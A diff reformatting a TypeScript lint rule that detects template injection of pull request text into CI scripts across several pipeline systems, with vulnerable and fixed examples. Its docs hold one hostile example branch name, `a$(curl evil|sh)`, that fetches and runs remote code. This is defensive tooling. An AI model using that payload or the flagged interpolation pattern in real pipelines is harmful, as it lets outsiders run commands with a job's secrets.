@@ -17,20 +17,40 @@ export const templateInjection = defineRule({
     frameworks: ['NHI8:2025', 'PR.PS-06'],
     peers: ['poutine injection'],
     fix: 'suggestion',
-    messages: { default: '{system} puts `{name}` into this script before the shell sees it, and whoever proposes a change writes it: a command in it runs with what this job holds{instead}' },
+    messages: {
+      default:
+        '{system} puts `{name}` into this script before the shell sees it, and whoever proposes a change writes it: a command in it runs with what this job holds{instead}',
+    },
     docs: {
       what: 'The title, branch, message or author of a change, in the notation by which Azure Pipelines, Jenkins, CircleCI, Buildkite, Drone, Woodpecker or Tekton put text into a script.',
       why: 'The text becomes part of the script. A branch called `a$(curl evil|sh)` or a commit message with a quote in it then runs a command with the tokens and secrets of the job, and nobody has reviewed it.',
       remedy: 'Let the shell take the text from its environment, and quote the variable.',
       bad: [
-        { file: 'azure-pipelines.yml', text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building «$(System.PullRequest.SourceBranch)»"\n' },
-        { file: 'Jenkinsfile', text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh \"echo «${env.CHANGE_TITLE}»\"\n  } } }\n}\n" },
+        {
+          file: 'azure-pipelines.yml',
+          text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building «$(System.PullRequest.SourceBranch)»"\n',
+        },
+        {
+          file: 'Jenkinsfile',
+          text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh \"echo «${env.CHANGE_TITLE}»\"\n  } } }\n}\n",
+        },
       ],
       good: [
-        { file: 'azure-pipelines.yml', text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building $SYSTEM_PULLREQUEST_SOURCEBRANCH"\n' },
-        { file: 'Jenkinsfile', text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh 'echo \"$CHANGE_TITLE\"'\n  } } }\n}\n" },
+        {
+          file: 'azure-pipelines.yml',
+          text: 'pr: [main]\njobs:\n  - job: build\n    steps:\n      - bash: echo "Building $SYSTEM_PULLREQUEST_SOURCEBRANCH"\n',
+        },
+        {
+          file: 'Jenkinsfile',
+          text: "pipeline {\n  agent { label 'linux' }\n  stages { stage('x') { steps {\n    sh 'echo \"$CHANGE_TITLE\"'\n  } } }\n}\n",
+        },
       ],
-      references: ['https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs', 'https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation', 'https://circleci.com/docs/pipeline-variables/', 'https://buildkite.com/docs/pipelines/environment-variables'],
+      references: [
+        'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs',
+        'https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation',
+        'https://circleci.com/docs/pipeline-variables/',
+        'https://buildkite.com/docs/pipelines/environment-variables',
+      ],
     },
   },
   on: {
@@ -46,7 +66,10 @@ export const templateInjection = defineRule({
             message: 'default',
             data: { system: known.name, name: match[1]!, instead: instead === undefined ? '' : `; \`${instead}\` leaves it to the shell` },
             anchor: `${step.anchor}|${match[1]!.toLowerCase()}`,
-            suggestions: instead === undefined ? [] : [editing(`Leave it to the shell: ${instead}`, at.uri, () => [{ uri: at.uri, span: at.span, text: instead }])],
+            suggestions:
+              instead === undefined
+                ? []
+                : [editing(`Leave it to the shell: ${instead}`, at.uri, () => [{ uri: at.uri, span: at.span, text: instead }])],
           });
         }
       }
@@ -68,7 +91,8 @@ const escaped = (token: string): string => `$${token}`;
 const notations: Partial<Record<CiSystem, Notation>> = {
   'azure-pipelines': {
     name: 'Azure Pipelines',
-    pattern: /\$\((System\.PullRequest\.SourceBranch(?:Name)?|Build\.SourceBranch(?:Name)?|Build\.SourceVersion(?:Message|Author)|Build\.RequestedFor)\)/gi,
+    pattern:
+      /\$\((System\.PullRequest\.SourceBranch(?:Name)?|Build\.SourceBranch(?:Name)?|Build\.SourceVersion(?:Message|Author)|Build\.RequestedFor)\)/gi,
     instead(_token, name, step) {
       const variable = name.toUpperCase().replaceAll('.', '_');
       if (entryOf(step.value, 'pwsh') || entryOf(step.value, 'powershell')) return `$env:${variable}`;
@@ -77,12 +101,15 @@ const notations: Partial<Record<CiSystem, Notation>> = {
   },
   circleci: {
     name: 'CircleCI',
-    pattern: /<<\s*(pipeline\.git\.(?:branch|tag)|pipeline\.event\.github\.pull_request\.(?:title|body|head\.ref)|pipeline\.trigger_parameters\.\w+\.(?:branch|commit_message|commit_title|commit_author_name))\s*>>/g,
-    instead: (_token, name) => (name === 'pipeline.git.branch' ? '$CIRCLE_BRANCH' : name === 'pipeline.git.tag' ? '$CIRCLE_TAG' : undefined),
+    pattern:
+      /<<\s*(pipeline\.git\.(?:branch|tag)|pipeline\.event\.github\.pull_request\.(?:title|body|head\.ref)|pipeline\.trigger_parameters\.\w+\.(?:branch|commit_message|commit_title|commit_author_name))\s*>>/g,
+    instead: (_token, name) =>
+      name === 'pipeline.git.branch' ? '$CIRCLE_BRANCH' : name === 'pipeline.git.tag' ? '$CIRCLE_TAG' : undefined,
   },
   jenkins: {
     name: 'Groovy',
-    pattern: /(?<!\\)\$\{(?:env\.)?(CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR_DISPLAY_NAME|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME|gitlabSourceBranch|gitlabMergeRequestTitle|ghprbPullTitle|ghprbSourceBranch)\}/g,
+    pattern:
+      /(?<!\\)\$\{(?:env\.)?(CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR_DISPLAY_NAME|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME|gitlabSourceBranch|gitlabMergeRequestTitle|ghprbPullTitle|ghprbSourceBranch)\}/g,
     instead: (_token, name) => `\\\${${name}}`,
   },
   buildkite: {
@@ -92,17 +119,20 @@ const notations: Partial<Record<CiSystem, Notation>> = {
   },
   drone: {
     name: 'Drone',
-    pattern: /(?<!\$)\$\{((?:DRONE|CI)_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_REF|COMMIT_AUTHOR_NAME|COMMIT_AUTHOR_EMAIL|SOURCE_BRANCH|PULL_REQUEST_TITLE|TAG|BRANCH))\}/g,
+    pattern:
+      /(?<!\$)\$\{((?:DRONE|CI)_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_REF|COMMIT_AUTHOR_NAME|COMMIT_AUTHOR_EMAIL|SOURCE_BRANCH|PULL_REQUEST_TITLE|TAG|BRANCH))\}/g,
     instead: escaped,
   },
   woodpecker: {
     name: 'Woodpecker',
-    pattern: /(?<!\$)\$\{(CI_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_REF|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR(?:_EMAIL)?|COMMIT_TAG|COMMIT_PULL_REQUEST_LABELS))\}/g,
+    pattern:
+      /(?<!\$)\$\{(CI_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_REF|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR(?:_EMAIL)?|COMMIT_TAG|COMMIT_PULL_REQUEST_LABELS))\}/g,
     instead: escaped,
   },
   tekton: {
     name: 'Pipelines as Code',
-    pattern: /\{\{\s*(body\.pull_request\.(?:title|body|head\.ref|head\.label)|body\.head_commit\.message|source_branch|git_tag|trigger_comment)\s*\}\}/g,
+    pattern:
+      /\{\{\s*(body\.pull_request\.(?:title|body|head\.ref|head\.label)|body\.head_commit\.message|source_branch|git_tag|trigger_comment)\s*\}\}/g,
     instead: () => undefined,
   },
 };
